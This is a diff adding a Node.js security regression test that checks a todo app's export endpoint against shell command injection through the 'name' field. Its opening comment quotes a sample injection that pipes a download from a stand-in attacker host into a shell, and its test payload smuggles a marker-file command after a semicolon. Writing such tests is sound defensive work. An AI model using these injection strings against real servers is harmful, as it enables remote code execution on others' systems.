@@ -1,0 +1,21 @@
+// AS-EXYTZ7AD: put `; curl attacker.example | sh` into a file name, branch or host field that the server pastes into a shell command
+// Fails while the code is vulnerable, passes once the fix is in. Start the app, then run it with
+// BASE_URL pointing at it (default http://localhost:3000).
+const { test } = require('node:test');
+const assert = require('node:assert/strict');
+const { existsSync, rmSync } = require('node:fs');
+
+const BASE_URL = process.env.BASE_URL || 'http://localhost:3000';
+const PAYLOAD = "127.0.0.1; touch /tmp/rugged-as-exytz7ad-marker";
+
+const MARKER = "/tmp/rugged-as-exytz7ad-marker";
+
+test("AS-EXYTZ7AD: POST /todos/export runs no shell command sent in name", async () => {
+  rmSync(MARKER, { force: true });
+  const attack = await fetch(`${BASE_URL}/todos/export`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ "name": PAYLOAD }) });
+  await attack.text();
+  // Expected: the command after `;` never runs (`/tmp/rugged-as-exytz7ad-marker` is not created).
+  const ran = existsSync(MARKER);
+  rmSync(MARKER, { force: true });
+  assert.equal(ran, false, "the injected command ran");
+});
